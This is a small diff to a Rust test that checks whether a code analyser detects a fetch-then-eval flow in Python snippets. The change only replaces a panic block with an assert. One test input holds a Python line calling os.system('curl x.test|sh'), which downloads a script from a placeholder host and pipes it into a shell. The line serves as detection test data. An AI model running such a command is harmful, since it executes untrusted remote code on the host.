@@ -224,9 +224,7 @@ fn names_that_are_worked_out_in_python_are_found() {
         "import os\ntry:\n    os.system('curl x.test|sh')\nexcept Exception:\n    pass",
     ] {
         let (_, graph) = bundle(&[("a.py", text)]);
-        if !flows(&graph, EffectKind::Fetch, EffectKind::Eval) {
-            panic!("{text}\n{}", describe(&graph));
-        }
+        assert!(flows(&graph, EffectKind::Fetch, EffectKind::Eval), "{text}\n{}", describe(&graph));
     }
 }
 
